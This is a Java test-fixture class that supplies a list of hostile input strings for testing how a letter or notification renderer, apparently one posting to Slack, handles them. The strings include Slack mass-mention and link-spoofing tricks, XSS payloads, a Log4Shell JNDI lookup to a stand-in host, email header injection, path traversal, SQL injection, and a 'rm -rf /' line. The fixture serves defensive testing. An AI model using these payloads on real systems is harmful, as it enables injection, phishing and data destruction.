package parallax.coordinator.notify.letter;

import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;
import parallax.coordinator.core.verdict.Scope;
import parallax.coordinator.notify.letter.Letter.Fact;
import parallax.coordinator.notify.letter.Letter.Language;
import parallax.coordinator.notify.letter.Letter.Link;
import parallax.coordinator.notify.letter.Letter.Occasion;

/** Texts that want to be more than text, for tests of whoever renders letters. */
public final class Hostile {
  public static final List<String> TEXTS =
      List.of(
          "<!channel>",
          "<!here>",
          "<!everyone>",
          "<!here|here>",
          "<@U1>",
          "<@U024BE7LH|boss>",
          "<#C024BE7LR|general>",
          "<!subteam^SAZ94GDB8>",
          "<!date^1392734382^{date}|now>",
          "<!date^0^^https://evil.example|click>",
          "@everyone",
          "@here @channel",
          "&lt;!channel&gt;",
          "&amp;lt;!channel&amp;gt;",
          "&#60;!channel&#62;",
          "[click](https://evil.example)",
          "[click](javascript:alert(1))",
          "<https://evil.example|https://bank.example>",
          "<http://x|y>",
          "<mailto:a@b.example|mail>",
          "https://evil.example/login",
          "evil.example",
          "![x](https://evil.example/p.png)",
          "*bold* _italic_ ~gone~ `code`",
          "**bold** __under__ ~~gone~~",
          "```\ncode\n```",
          "`rm -rf /`",
          "> quoted",
          ">>> quoted to the end",
          "# heading",
          "- item\n- item",
          "1. item",
          "| a | b |\n|---|---|",
          ":skull: :100: :+1:",
          ":slack_call: fe80::100:1",
          "a\r\nBcc: x@evil.example",
          "\r\nBcc:",
          "a\nb\rc\u2028d\u2029e\u0085f",
          "\u202Egnp.exe",
          "\u2066\u2067x\u2069",
          "a\u200Bb\u200Cc\u200Dd\uFEFFe",
          "<!chan\u200Bnel>",
          "\u0000\u0001\u0007\u001B[31mred\u001B[0m",
          "\u009B31m",
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "\"><svg onload=alert(1)>",
          "' onmouseover='alert(1)",
          "<a href=\"javascript:alert(1)\">x</a>",
          "<!--",
          "]]>",
          "{{7*7}}",
          "${7*7} ${jndi:ldap://evil.example/a}",
          "#{7*7}",
          "<%= 7*7 %>",
          "{% raw %}{{ .Labels }}{% endraw %}",
          "{who} {0} {said}",
          "%s %n %x %999999999d",
          "$1 \\1 \\u003c!channel\\u003e",
          "\",\"text\":\"<!channel>\",\"x\":\"",
          "\\\",\\\"a\\\":\\\"",
          "x".repeat(50_000),
          "<".repeat(20_000),
          "&".repeat(20_000),
          "*".repeat(5_000),
          "\uD83D\uDE80".repeat(4_000),
          "\uD800 alone",
          "alone \uDC00",
          "\uD83D\uDE80 \uD83D\uDC69\u200D\uD83D\uDCBB \uD83C\uDDEF\uD83C\uDDF5",
          "مرحبا بالعالم",
          "שלום <@U1>",
          "障害 <!channel> です",
          "a\u0335\u0336\u0337\u0338\u0339\u033A\u033B\u033C",
          "\u3164\u115F\uFFA0",
          "",
          " ",
          "Z̷̢͑a̶̧͐l̵̨̛g̶̨̛o̷̧̊",
          "..\\..\\..\\etc\\passwd",
          "'; DROP TABLE notice; --",
          "=HYPERLINK(\"https://evil.example\")");

  private Hostile() {}

  /** A letter in which every text is {@code text} as it is, which no writer of letters would do. */
  public static Letter letter(String text, Letter like) {
    return new Letter(
        like.key(),
        like.incident(),
        like.number(),
        like.occasion(),
        like.grade(),
        like.drill(),
        like.language(),
        text,
        like.facts().stream().map(fact -> new Fact(fact.name(), text)).toList(),
        like.evidence().stream().map(_ -> text).toList(),
        like.against().stream().map(_ -> text).toList(),
        like.members().stream().map(_ -> text).toList(),
        like.moreMembers(),
        like.links().stream().map(link -> new Link(text, link.target())).toList(),
        new TreeMap<>(Map.of("culprit", text)),
        like.times());
  }

  /** An ordinary letter with everything that a letter can have. */
  public static Letter ordinary() {
    return Letters.write(
        new Occurrence(
            "i1:OPENED:ops",
            Told.dyn(Scope.GLOBAL),
            Occasion.OPENED,
            1,
            Language.ENGLISH,
            false,
            Optional.empty()),
        Told.TOKYO,
        Told.NOW);
  }
}
